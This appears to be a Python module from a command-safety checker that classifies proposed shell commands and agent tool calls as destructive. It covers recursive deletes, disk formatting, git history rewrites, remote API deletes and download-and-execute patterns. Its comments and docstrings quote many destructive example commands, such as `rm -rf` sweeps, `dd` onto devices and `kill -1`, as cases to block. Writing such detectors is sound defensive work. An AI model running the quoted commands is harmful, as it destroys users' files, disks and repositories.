# A find test that selects the files changed last (`-mtime -60`, `-mmin -30`, `-newer stamp`)
_RECENT = re.compile(r"(?:^|\s)(?:-[acm](?:time|min)\s+-\d|(?<!!\s)(?<!-not\s)-newer\w*\s)")


def _kept_files(root: str, ctx: Context) -> bool:
    """A folder whose files are someone's to keep: outside the project, the temporary folders and caches."""
    path = root.rstrip("/") + "/"
    return (
        not is_within(root, ctx.workspace)
        and not in_temporary_folder(root, ctx.home)
        and CACHE_FOLDER.search(path) is None
    )


def _destructive_find(command: Command, action: Action, ctx: Context) -> Finding | None:
    if command.name in ("fd", "fdfind"):
        return _fd_sweep(command, action, ctx)
    if command.name != "find" or not _find_deletes(command):
        return None
    roots = _find_roots(command, action, ctx)
    argv = command.argv
    named = {
        argv[i + 1].rstrip("/").rsplit("/", 1)[-1]
        for i, w in enumerate(argv[:-1])
        if w in ("-name", "-iname", "-path", "-ipath") and argv[i - 1] not in ("!", "-not")
    }
    vendored = all(is_within(r, ctx.workspace) and r != ctx.workspace for r in roots)  # `find vendor ...`
    history = named & VCS_FOLDERS
    if history and not vendored and _holds(roots, lambda name: name in history):
        # `find ~/projects -name .git -prune -exec rm -rf {} +`: the history of every repository found
        detail = "find deletes the history of every repository it finds"
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 80, detail)
    # inside the project, `-not -name .gitignore` is the user's own choice of what to keep; at `/` or `~`,
    # sparing one name (`-not -name proc`) is no narrowing
    spared = not any(_is_dangerous(r, action, ctx) and not is_within(r, ctx.workspace) for r in roots)
    # (a folder kept data lives in, not a scratch one named so: `/srv/app/tmp`, `/var/www/cache`)
    kept_data = any(_beyond_work(r, ctx) and not _SCRATCH_NAMED.search(r + "/") for r in roots)
    if _find_filters(command.argv, negation_narrows=spared, minutes_narrow=not kept_data):
        source = _source_glob(command.argv)
        wanted = tuple(source.lower().split())
        if source and _holds(roots, lambda name: name.lower().endswith(wanted)):
            # `find . -name '*.py' -delete`: every file of the project's code in that language
            detail = f"find deletes every {source} file"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, detail)
        kind = _kind_only(command.argv)
        beyond = [r for r in roots if _beyond_work(r, ctx)]
        if kind and beyond:  # `find /data/run42 -name '*.h5' -delete`: that data, every file of its kind
            detail = f"find deletes every {kind[:40]} file below {beyond[0][:60]}, outside the project"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)
        if beyond and _whole_folders_swept(command.argv):
            # `find /var/vmail -type f -path '*/cur/*' -delete`: every file of those folders, not the old ones
            # (`-mtime +30`, a rotation) nor a by-product (`-name '*.tmp'`)
            detail = f"find deletes every file it finds below {beyond[0][:60]}, outside the project"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)
        kept = [r for r in roots if _kept_files(r, ctx)]
        if kept and _RECENT.search(" ".join(command.argv)):
            # `find ~/Documents -type f -mtime -60 -delete`: a clean-up takes old files; this, the latest work
            detail = f"find deletes the files changed most recently in {_path_class(kept[0], ctx)}"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)
        return None
    if any(_is_dangerous(r, action, ctx) for r in roots):
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 95, "find -delete without a filter")
    if _whole_tree(command.argv):
        # what it deletes is everything below each root: judged as `rm -rf ROOT` (a shared data folder asks)
        emptied = (_recursive_delete(Command(("rm", "-rf", "--", r), "rm"), action, ctx) for r in roots)
        found = [f for f in emptied if f is not None]
    else:
        found = [f for f in (_home_folder_delete(r, ctx) for r in roots) if f is not None]
    return max(found, key=lambda f: (f.verdict, f.risk), default=None)


_EXECS = frozenset({"-exec", "-execdir", "-ok", "-okdir"})


def _whole_tree(argv: tuple[str, ...]) -> bool:
    r"""A find with no filter that deletes every file (or folder) below its roots: no program run as a test
    (`-exec grep -q X {} \; -delete`), no root given as a glob or as an outer find's match (`{}`), no links
    or sockets picked out."""
    execs = sum(w in _EXECS for w in argv)
    kinds = {argv[i + 1] for i, w in enumerate(argv[:-1]) if w == "-type"}
    roots = itertools.takewhile(lambda w: not w.startswith(("-", "(", "!", ")")), argv[1:])
    globbed = any(ch in w for w in roots for ch in "*?[{")  # (the `{}` of `-exec rm {} +` is no root)
    return execs <= (0 if "-delete" in argv else 1) and kinds <= {"f", "d"} and not globbed


# Programs that list what a folder holds, one path a line: their output fed to `xargs rm` deletes it
_LISTERS = frozenset({"find", "fd", "fdfind", "ls"})
_PASSING = frozenset({"sort", "tr", "cat"})  # pass every line on


def _piped_sweep(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`find ~ -mindepth 1 | xargs rm -rf`, `ls / | xargs rm -rf`: a delete run on what a listing printed is
    judged as the listing deleting its own matches (`find ROOT -exec rm -rf {} +`), filters and all."""
    if command.name not in _DELETERS:
        return None
    fed = {s for v in command.via if v.startswith("stdin:") for s in v[len("stdin:") :].split(",")}
    if not fed & _LISTERS or fed - _LISTERS - _PASSING:
        return None  # no listing, or one narrowed on its way (`| grep -v keep`, `| tail -n +6`)
    for lister in action.commands:
        if lister.name not in fed & _LISTERS:
            continue
        if lister.name == "ls":  # `ls ROOT`: ROOT's entries, as `find ROOT -maxdepth 1` lists them
            roots = [w for w in lister.argv[1:] if not w.startswith("-")] or ["."]
            lister = Command(("find", *roots, "-maxdepth", "1"), "find")
        if lister.name != "find":
            lister = Command((*lister.argv, "-x", *command.argv), lister.name)
            found = _fd_sweep(lister, action, ctx)
            if found is not None:
                return found
            continue
        swept = Command((*lister.argv, "-exec", *command.argv, "{}", "+"), "find")
        found = _destructive_find(swept, action, ctx)
        if found is not None:
            return found
    return None


# Options of disk tools that print what would be done and do nothing (`wipefs --no-act`); a short `-n` is
# only zfs's (`mkfs.vfat -n BOOT` names the volume)
_NO_ACT = frozenset({"--no-act", "--dry-run", "--noop"})
_ZFS_NO_ACT = frozenset({"-n", "-nv", "-vn", "-nvp", "-npv", "-vnp"})
_NOT_A_DISK = frozenset({"/dev/null", "/dev/zero", "/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/tty"})


def _disk_operand(command: Command, action: Action, ctx: Context) -> str:
    """What a disk tool would write: "device" (an operand under /dev, however reached), "unknown" (an
    operand only known at run time) or "" (plain files: `mkfs.ext4 disk.img` formats an image, not a disk)."""
    found = ""
    entry = program(command.name)
    skip = False
    for word in command.argv[1:]:
        if skip:
            skip = False
            continue
        if entry is not None and word in entry.options:
            skip = True
            continue
        value = word.split("=", 1)[1] if word.startswith("-") and "=" in word else word
        if not value or (value.startswith("-") and value == word):
            continue
        if "$" in value or "`" in value:
            found = "unknown"
            continue
        for target in (_target(value, action, ctx), *_after_cd(value, action, ctx)):
            if (target.startswith("/dev/") and target not in _NOT_A_DISK) or _DEVICE.match(target):
                if target in _volumes_made_before(command, action):
                    continue  # `lvcreate -n data vg0 && mkfs.xfs /dev/vg0/data`: a new volume holds nothing
                return "device"
    return found


# `lvcreate`'s options that take a value (the rest of its words: flags, and the volume group last)
_LVCREATE_VALUED = frozenset(
    {"-L", "--size", "-l", "--extents", "-n", "--name", "-T", "--thinpool", "-V", "--virtualsize", "--type"}
    | {"-i", "--stripes", "-I", "--stripesize", "-m", "--mirrors", "-s", "--snapshot", "-c", "--chunksize"}
)


def _volumes_made_before(command: Command, action: Action) -> frozenset[str]:
    """The device paths of the volumes the commands before `command` in the same line create (`lvcreate -n
    NAME VG` makes `/dev/VG/NAME` and `/dev/mapper/VG-NAME`; `zfs create -V SIZE POOL/VOL` makes
    `/dev/zvol/POOL/VOL`): formatting one of them loses no data, there was none."""
    made: set[str] = set()
    for earlier in action.commands:
        if earlier is command:
            break
        argv = earlier.argv
        if earlier.name == "lvcreate" and not ({"-s", "--snapshot"} & set(argv)):
            name, group, skip = "", "", ""
            for word in argv[1:]:
                if skip:
                    name = word if skip in ("-n", "--name") else name
                    skip = ""
                elif word in _LVCREATE_VALUED:
                    skip = word
                elif word.startswith(("--name=", "-n")) and word not in ("-n",):
                    name = word.split("=", 1)[1] if "=" in word else word[2:]
                elif not word.startswith("-"):
                    group = word.split("/", 1)[0]
            if name and group:
                made |= {
                    f"/dev/{group}/{name}",
                    f"/dev/mapper/{group.replace('-', '--')}-{name.replace('-', '--')}",
                }
        elif (
            earlier.name == "zfs"
            and argv[1:2] == ("create",)
            and ("-V" in argv or any(w.startswith("-V") for w in argv))
        ):
            made |= {f"/dev/zvol/{w}" for w in argv[2:] if "/" in w and not w.startswith("-")}
    return frozenset(made)


def _disk_wipe(command: Command, action: Action, ctx: Context) -> Finding | None:
    name = command.name
    entry = program(name)
    roles = entry.roles if entry is not None else frozenset()
    if Role.BLOCK_DEVICE in roles and Role.PARTITIONS not in roles and name != "dd":
        if name == "cryptsetup" and not any(
            w in command.argv for w in ("luksFormat", "erase", "luksErase", "reencrypt")
        ):
            return None
        if _NO_ACT.intersection(command.argv[1:]):
            return None  # `wipefs --no-act /dev/sdd`: what it would wipe, printed
        where = _disk_operand(command, action, ctx)
        if where == "device":
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 96, f"{name} formats a device")
        if where == "unknown":
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 80, f"{name} formats a device named at run time"
            )
        return None
    if Role.WIPES in roles:
        targets = [_target(w, action, ctx) for w in _operands(command.argv)]
        scratch = [t for t in targets if ctx.workspace and _SCRATCH_RESOURCE.search(t[len(ctx.workspace) :])]
        if targets and len(scratch) == len(targets) and all(is_within(t, ctx.workspace) for t in targets):
            return None  # `shred -u tmp/test-key.pem`: the project's scratch files, gone for good as meant
        if targets and all(ctx.workspace and is_within(t, ctx.workspace) for t in targets):
            detail = f"{name} destroys project files"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)
        if targets and all(in_temporary_folder(t, ctx.home) for t in targets):
            return None  # `shred -u /tmp/test-key.pem`: scratch files, gone for good as meant
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 92, f"{name} destroys file contents")
    if name == "dd":
        for word in command.argv[1:]:
            if word.startswith("of=") and (_DEVICE.match(word[3:]) or _VOLUME.match(word[3:])):
                return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 97, "dd onto a disk device")
    scripted = Role.PARTITIONS in roles and any(
        (name == "sfdisk" and p.strip()) or _WRITE_TABLE.search(p) for p in action.payloads
    )  # `fdisk /dev/sda <<< $'o\nw'`: the session on its input writes a new table
    if (
        Role.BLOCK_DEVICE in roles
        and name != "dd"
        and (
            scripted
            or any(w in command.argv for w in ("--delete", "-d", "rm", "mklabel", "--zap-all", "-Z", "-o"))
        )
        and _disk_operand(command, action, ctx) != ""
    ):
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 94, f"{name} rewrites a partition table"
        )
    if Role.STORAGE_DESTROYER in roles:
        if name in ("zpool", "zfs") and "destroy" in command.argv[1:3]:
            if _ZFS_NO_ACT.intersection(command.argv[1:]):
                return None  # `zfs destroy -nv pool/x@a%b`: what it would destroy, printed
            snapshots = [w for w in _operands(command.argv)[1:] if w != "destroy"]
            if (
                name == "zfs"
                and snapshots
                and all("@" in w and "%" not in w for w in snapshots)
                and not ({"r", "R"} & _short_flags(command.argv[1:]))
            ):  # one named snapshot: a point to go back to, not the data
                return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, "zfs destroys a snapshot")
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 94, f"{name} destroy")
        if name == "zpool" and "labelclear" in command.argv[1:3]:  # the pool's member disk made blank
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 94, "zpool erases a disk's pool label"
            )
        if name not in ("zpool", "zfs"):
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 80, f"{name} removes a volume")
    for target in command.redirects:
        if _DEVICE.match(target):
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 97, "write onto a disk device")
    return None


def _permission_sweep(command: Command, action: Action, ctx: Context) -> Finding | None:
    if command.name not in ("chmod", "chown", "chgrp", "setfacl"):
        return None
    flags = _short_flags(command.argv[1:])
    if not ("R" in flags or "--recursive" in _long(command.argv)):
        return None
    for word in _operands(command.argv)[1:]:
        target = _target(word, action, ctx)
        if _is_dangerous(target, action, ctx) and not is_within(target, ctx.workspace):
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND,
                Verdict.BLOCK,
                93,
                f"recursive {command.name} of {_path_class(target, ctx)}",
            )
    return None


def _git_destructive(command: Command, action: Action, ctx: Context) -> Finding | None:
    if command.name != "git":
        return None
    args = [w for w in command.argv[1:]]
    while args and args[0].startswith("-"):
        args = args[2:] if args[0] in ("-C", "-c", "--git-dir", "--work-tree") else args[1:]
    if not args:
        return None
    sub, rest = args[0], args[1:]
    if sub == "push":
        return _force_push(rest)
    if sub in ("filter-branch", "filter-repo"):
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 92, f"git {sub} rewrites history")
    if sub == "reset" and "--hard" in rest:
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 60, "git reset --hard drops uncommitted work"
        )
    if (
        sub == "clean"
        and not ({"n"} & _short_flags(rest) or "--dry-run" in rest)  # `git clean -fdxn` only lists
        and ({"x", "X", "d"} & _short_flags(rest))
        and ({"f"} & _short_flags(rest) or "--force" in rest)
        and not _ignored_only_below(rest)
        and not _ignored_folders_only(rest, action.cwd or ctx.workspace)
        and not _untracked_only_below(rest)
    ):
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 60, "git clean deletes untracked files")
    if sub == "reflog" and "expire" in rest and any("now" in w or "all" in w for w in rest):
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, "git reflog expire drops recovery points"
        )
    if sub == "branch" and ({"D"} & _short_flags(rest)) and any(PROTECTED_BRANCHES.match(w) for w in rest):
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, "git branch -D of a shared branch")
    return None


def _ignored_only_below(rest: list[str]) -> bool:
    """`git clean -fdX -- out/ coverage/`: only files git ignores, only below the folders named (build
    outputs); not the whole tree (`.`), where `.env` and local settings are ignored files too."""
    operands = [w for w in rest[1:] if not w.startswith("-")]
    return (
        "X" in _short_flags(rest)
        and "x" not in _short_flags(rest)
        and bool(operands)
        and all(w.strip("./") and not w.startswith(("/", "~", "..")) for w in operands)
    )


def _untracked_only_below(rest: list[str]) -> bool:
    """`git clean -fd -- public/build storage/framework/testing`: files git neither tracks nor ignores (so
    not `.env` and local settings), only below the folders named, none of them the whole tree."""
    operands = [w for w in rest[1:] if not w.startswith("-")]
    return (
        not {"x", "X"} & _short_flags(rest)
        and bool(operands)
        and all(
            w.strip("./") and not w.startswith(("/", "~", "..")) and "/../" not in f"/{w}/" for w in operands
        )
    )


def _ignored_folders_only(rest: list[str], cwd: str) -> bool:
    """`git clean -fdx bin/`, `git clean -fdx dbt/target dbt/logs`: every folder named is one the project's
    .gitignore ignores whole (its build output: the folder's path, or its bare name, which git matches at any
    depth), so all below it is ignored output, with or without -x."""
    from limen.normalize.paths import read_text

    operands = [w.strip("/") for w in rest if not w.startswith("-")]
    if not operands or any(
        not w or w.startswith(("~", "..")) or w == "." or "/./" in f"/{w}/" or "/../" in f"/{w}/"
        for w in operands
    ):
        return False
    ignored = {
        line.strip().strip("/")
        for line in (read_text(os.path.join(cwd, ".gitignore"), 64_000) or "").splitlines()
        if line.strip() and not line.startswith(("#", "!"))
    }
    return all(w in ignored or ("/" in w and w.rsplit("/", 1)[1] in ignored) for w in operands)


# What a repository's history is kept in, inside its folder (`.git/objects`, `.git/refs`)
_HISTORY_STORES = frozenset({"objects", "refs", "packed-refs", "store", "data"})


def _force_push(rest: list[str]) -> Finding | None:
    flags = _short_flags(rest)
    longs = _long(rest)
    refs = [w for w in rest if not w.startswith("-")][1:]
    plus = [r[1:] for r in refs if r.startswith("+")]
    deleting = "--delete" in longs or "d" in flags or any(r.startswith(":") for r in refs)
    lease = "--force-with-lease" in longs or "--force-if-includes" in longs
    forced = "f" in flags or "--force" in longs or "--mirror" in longs or bool(plus)
    if not (forced or deleting or lease):
        return None
    names = [r.lstrip("+:").split(":")[-1].removeprefix("refs/heads/") for r in refs]
    shared = (
        not names
        or any(PROTECTED_BRANCHES.match(n) for n in names)
        or any("{}" in n or "$" in n or "*" in n for n in names)  # `xargs -I{} git push origin :{}`: any
        or "--mirror" in longs
        or "--all" in longs
    )
    what = "deletes a branch" if deleting else "force-pushes"
    if shared and (forced or deleting):
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 93, f"git push {what} a shared branch")
    released = any(
        r.lstrip("+:").startswith("refs/tags/") or _RELEASE_TAG.match(n)
        for r, n in zip(refs, names, strict=True)
    )
    if shared or forced or (deleting and released):
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 65, f"git push {what}, rewriting history"
        )
    return None  # a feature branch deleted on the remote (merged, abandoned): the usual clean-up


_RELEASE_TAG = re.compile(r"^v?\d+(?:\.\d+)+")  # `v1.4.0`: a release tag others may build from


_WRITE_TABLE = re.compile(r"(?m)^\s*w\s*$")  # fdisk's and gdisk's command that writes the table


# (the path's last word a delete, alone or naming what: `doDelete`, `DeleteTitle`, `remove-user`)
_DELETE_ENDPOINT = re.compile(  # (a cache purged is fetched again: `/zones/Z/purge_cache` deletes nothing)
    r"://\S+/(?:do)?(?:delete|remove|destroy|purge|wipe)(?![_-]?caches?\b)(?:[A-Z_-]\w*)?(?:[?#\s'\"]|$)",
    re.IGNORECASE,
)
_POSTS = re.compile(
    r"(?:^|\s)(?:-X\s*|--request[=\s])['\"]?POST\b|(?:^|\s)(?:-d|--data\S*|-F|--form)(?:\s|=)", re.I
)
_DELETE_METHOD = re.compile(r"(?:^|\s)(?:-X\s*|--request[=\s]|--method[=\s])['\"]?DELETE\b", re.IGNORECASE)
_CREDENTIAL_WORD = re.compile(
    r"(?:^|\s)(?:-[a-zA-Z]*u|--user|--oauth2-bearer)(?:\s|=)|authorization:|api[-_]?key|x-auth|x-[a-z]{1,30}-token|token"
    r"|\$\{?\w*(?:KEY|TOKEN|SECRET|PASS|PASSWORD|PWD)\b",
    re.IGNORECASE,
)


def _remote_delete(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`curl -X DELETE -H "Authorization: Bearer $CF_API_TOKEN" https://api.cloudflare.com/.../zones/Z`,
    `http DELETE api.example.com/v1/projects/p Authorization:...`: a resource deleted on a remote service,
    under the user's account (asked; a request to this machine's own server is development)."""
    if command.name not in _DOWNLOADERS and command.name not in HTTPIE_NAMES:
        return None
    line = " ".join(command.argv[1:])
    httpie_delete = command.name in HTTPIE_NAMES and any(w.upper() == "DELETE" for w in command.argv[1:3])
    # (a delete as a path's last word: Jenkins' `POST .../job/x/doDelete`, `POST .../v1/items/7/delete`)
    posted = bool(_DELETE_ENDPOINT.search(line)) and _POSTS.search(line) is not None
    if not (httpie_delete or posted or _DELETE_METHOD.search(line)):
        return None
    remote = [d for d in action.destinations if d.via_command == command.name]
    if any(_EVERYTHING_PATH.search(d.url) for d in remote if d.host_class is not HostClass.LOOPBACK):
        # `curl -XDELETE http://es.prod.internal:9200/_all`: every index, collection or key of a store
        detail = f"{command.name} deletes everything a service holds"
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 85, detail)
    if not _CREDENTIAL_WORD.search(line):
        return None
    # an address the line builds at run time (`$VAULT_ADDR/v1/sys/audit/x`): where it goes is not shown
    built = not remote and any(w.startswith("$") and "/" in w for w in command.argv[1:])
    # this machine's own server, or a container's or compose service's by its bare name, is development; the
    # organisation's own network (`jenkins.acme.internal`, `10.0.4.12`) is infrastructure
    near = [
        d.host_class is HostClass.LOOPBACK
        or (d.host_class is HostClass.PRIVATE and not organisation_network(d))
        for d in remote
    ]
    if not built and (not remote or all(near)):
        return None
    where = remote[0].host if remote else "the service the line names at run time"
    detail = f"{command.name} deletes a resource on {where} with the user's credentials"
    return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, detail)


# A path naming everything a service holds: Elasticsearch's `_all`, a bare wildcard
_EVERYTHING_PATH = re.compile(r"://[^/\s]+/(?:[^?\s]*/)?(?:_all|\*)(?:[/?]|$)")


def _kill_all(command: Command, action: Action, ctx: Context) -> Finding | None:
    name = command.name
    if (
        name == "kill"
        and (
            command.argv[1:] == ("-1",)  # `kill -1`: read as a pid by kill(1), every process it may signal
            or "-1" in _operands(command.argv) + [w for w in command.argv[2:] if w == "-1"]
        )
    ):
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 92, "kill of every process")
    args = command.argv[1:]
    named = [args[i + 1] for i, w in enumerate(args[:-1]) if w in ("-s", "-n", "--signal")]  # `kill -s KILL`
    signals = [w.lstrip("-").upper().removeprefix("SIG") for w in args if w.startswith("-")] + named
    signals = [s for s in signals if s not in ("S", "N", "SIGNAL")]
    if name == "kill" and "1" in _operands(command.argv) and set(signals) <= {"9", "KILL", "15", "TERM"}:
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 92, "kill of init (the whole system)")
    if name == "killall5" or (
        name in ("pkill", "killall") and "-u" not in command.argv and len(command.argv) == 1
    ):
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 92, f"{name} kills every process")
    if name in _POWER or (
        name in ("systemctl", "init", "telinit")
        and any(w in command.argv for w in ("poweroff", "reboot", "halt", "kexec", "0", "6"))
    ):
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 75, f"{name} stops the machine")
    if name == "crontab" and "r" in _short_flags(command.argv[1:]):
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 91, "crontab -r deletes every cron job"
        )
    return None


_CODE_FLAGS = re.compile(r"-[a-zA-Z]*[ceErm]")  # -c CODE, -e CODE, -r CODE (php), -m MODULE


def _runs_stdin(command: Command) -> bool:
    """The command executes what arrives on stdin: a shell or interpreter with no program of its own."""
    if command.name in ("source", "."):
        return True
    if not (_is_shell(command) or _runs_code(command.name)):
        return False
    args = command.argv[1:]
    if _is_shell(command) and "s" in _short_flags(args):
        return True
    if any(
        _CODE_FLAGS.fullmatch(w) or (re.match(r"-[a-zA-Z]*[ceEm].", w) and not _is_shell(command))
        for w in args
    ):
        return False
    operands = [w for w in args if not w.startswith("-")]
    return not operands or operands[0] in ("-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0")


def _evaluates_download(text: str) -> bool:
    """Every match names `iex` or `Invoke-Expression` (a cheap first test: the pattern itself, with its
    bounded gaps under re.S, costs ~150 us on a 1 kB program)."""
    lowered = text.lower()
    return ("iex" in lowered or "invoke-expression" in lowered) and _DOWNLOAD_EXEC_CODE.search(
        text
    ) is not None


# A release's file on a forge, by its versioned path (`github.com/pinterest/ktlint/releases/download/1.2.1/
# ktlint`): a project's published build, whose owner a person can judge
_RELEASE_ASSET = re.compile(
    r"^https://(?:github\.com/[\w.-]+/[\w.-]+/releases/download/[\w.+-]+/"
    r"|gitlab\.com/[\w.-]+/[\w./-]+/-/releases/[\w.+-]+/downloads/)[\w.+-]+$"
)


def _download_exec(action: Action) -> Finding | None:
    if "download_exec" in action.notes:
        if action.destinations and all(_RELEASE_ASSET.match(d.url) for d in action.destinations):
            owner = action.destinations[0].url.split("/")[3]
            detail = f"runs a release binary it downloads (published by {owner})"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 80, detail)
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 96, "runs code it downloads")
    for command in action.commands:
        if not _runs_stdin(command):
            continue
        for via in command.via:
            if via.startswith("stdin:") and set(via[6:].split(",")) & _DOWNLOADERS:
                return _finding(
                    ReasonCode.DESTRUCTIVE_COMMAND,
                    Verdict.BLOCK,
                    96,
                    f"pipes downloaded data into {command.name}",
                )
    for text in _texts(action):
        if _evaluates_download(text):
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 95, "downloads and evaluates a script"
            )
    if _evaluates_download(action.command_line[:20000]):
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 95, "downloads and evaluates a script")
    return None


def _destructive_move(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`mv ~ /dev/null`, `mv / x`: moving the root, home, workspace or a system folder away loses it as
    surely as deleting it (the last operand is the destination)."""
    if command.name != "mv":
        return None
    words = list(command.argv[1:])
    if "-t" in words[:-1] or "--target-directory" in words[:-1]:  # `mv -t DIR SRC...`: the rest are sources
        at = words.index("-t") if "-t" in words[:-1] else words.index("--target-directory")
        sources = _operands(("mv", *words[:at], *words[at + 2 :]))
    elif any(w.startswith("--target-directory=") for w in words):
        sources = _operands(command.argv)
    else:
        sources = _operands(command.argv)[:-1]
    for word in sources:
        if any(c in word for c in "$`*?["):
            continue  # `mv * dir` moves a folder's entries, not the folder: it stays where it was
        hit = next(
            (
                t
                for t in (_target(word, action, ctx), *_after_cd(word, action, ctx))
                if _is_dangerous(t, action, ctx)
            ),
            None,
        )
        if hit is not None:
            return _finding(
                ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 94, f"moves {_path_class(hit, ctx)}"
            )
        holder, _, folder = _target(word, action, ctx).rstrip("/").rpartition("/")
        destination = _target(command.argv[-1], action, ctx)
        own = folder in VCS_FOLDERS and is_within(ctx.workspace, holder or "/")
        if own and not is_within(destination, holder):
            # `mv .git /tmp/x`: the project's history taken out of it, as a delete of it would
            detail = "moves the repository's history out of the project"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, detail)
    return None


# A tool that moves a file or folder (`move_file(source, destination)`), and the arguments naming both ends
_MOVE_TOOL = re.compile(r"(?:^|_)(?:move|rename|mv)(?:_|$)")
_MOVE_SOURCES = ("source", "src", "from", "old_path", "from_path", "source_path")
_MOVE_DESTINATIONS = ("destination", "dest", "to", "new_path", "to_path", "destination_path", "target")


def _moved_by_tool(action: Action) -> Command | None:
    """`mcp__filesystem__move_file(source=.git, destination=/tmp/x)` as the `mv` it is."""
    if action.commands or not _MOVE_TOOL.search(words_of(action.tool.rpartition("__")[2])):
        return None
    given = {k: v for k, v in action.arguments.items() if isinstance(v, str)}
    source = next((given[k] for k in _MOVE_SOURCES if k in given), "")
    target = next((given[k] for k in _MOVE_DESTINATIONS if k in given), "")
    return Command(("mv", source, target), "mv") if source and target else None


def _rsync_wipe(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`rsync --delete SRC DEST` empties DEST of what SRC lacks: a wipe when DEST is a precious directory."""
    if command.name != "rsync" or not any(w.startswith("--delete") for w in command.argv):
        return None
    every = _operands(command.argv)
    operands = [w for w in every if ":" not in w.split("/", 1)[0]]
    if len(every) >= 2 and every[-1] not in operands and operands == every[:-1]:
        # `rsync -a --delete EMPTY/ host:/var/www/uploads/`: the server's folder emptied
        if _syncs_nothing(operands, command, action, ctx):
            detail = f"rsync --delete leaves nothing at {every[-1]}: every file there is deleted"
            return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 80, detail)
        return None
    if len(operands) < 2:
        return None
    destination = _target(operands[-1], action, ctx)
    if _is_dangerous(destination, action, ctx):
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND,
            Verdict.AUTH,
            80,
            f"rsync --delete into {_path_class(destination, ctx)}",
        )
    if _syncs_nothing(operands[:-1], command, action, ctx):
        # `rsync -a --delete EMPTY/ /project/data/`: the same loss as `rm -rf /project/data`, judged alike
        return _recursive_delete(Command(("rm", "-rf", "--", destination), "rm"), action, ctx)
    return _home_folder_delete(destination, ctx)  # (`rsync --delete ~/notes/ ~/Documents/` takes its place)


def _syncs_nothing(sources: list[str], command: Command, action: Action, ctx: Context) -> bool:
    """What an `rsync --delete` copies is nothing: everything is excluded and excluded files deleted, or every
    source is an empty folder."""
    return _excludes_all(command.argv) or all(_empty_folder(_target(w, action, ctx), action) for w in sources)


def _empty_folder(path: str, action: Action) -> bool:
    """A folder with nothing in it, or one the line makes (`mkdir -p /tmp/e && rsync --delete /tmp/e/ ...`);
    a source that is not there makes rsync stop before deleting anything."""
    try:
        with os.scandir(path) as entries:
            return next(entries, None) is None
    except FileNotFoundError:
        return path in action.write_paths
    except OSError:  # a file, or a folder Limen may not list: what it holds is not known to be nothing
        return False


def _excludes_all(argv: tuple[str, ...]) -> bool:
    """`--delete-excluded --exclude='*'`: everything is excluded, and excluded files are deleted."""
    if "--delete-excluded" not in argv:
        return False
    excluded = {w.split("=", 1)[1] for w in argv if w.startswith("--exclude=")}
    excluded |= {b for a, b in pairwise(argv) if a == "--exclude"}
    return bool(excluded & {"*", "/*", "**", "/**"})


# --------------------------------------------------------------------------- infrastructure and databases


@lru_cache(maxsize=128)
def _pattern(text: str) -> re.Pattern[str]:
    return re.compile(text)


_REHEARSALS = ("--dry-run", "--dryrun", "--preview-only", "--what-if", "--whatif")


def _served_infrastructure(action: Action) -> Command | None:
    """An MCP server named after an infrastructure CLI (`kubernetes`, `aws`, `terraform`): its tool call as
    the command it stands for, the tool's name then its values (`mcp__k8s__delete_resource(kind=namespace,
    name=prod)` is `kubectl delete resource namespace prod`), for the CLI's own destroyer patterns."""
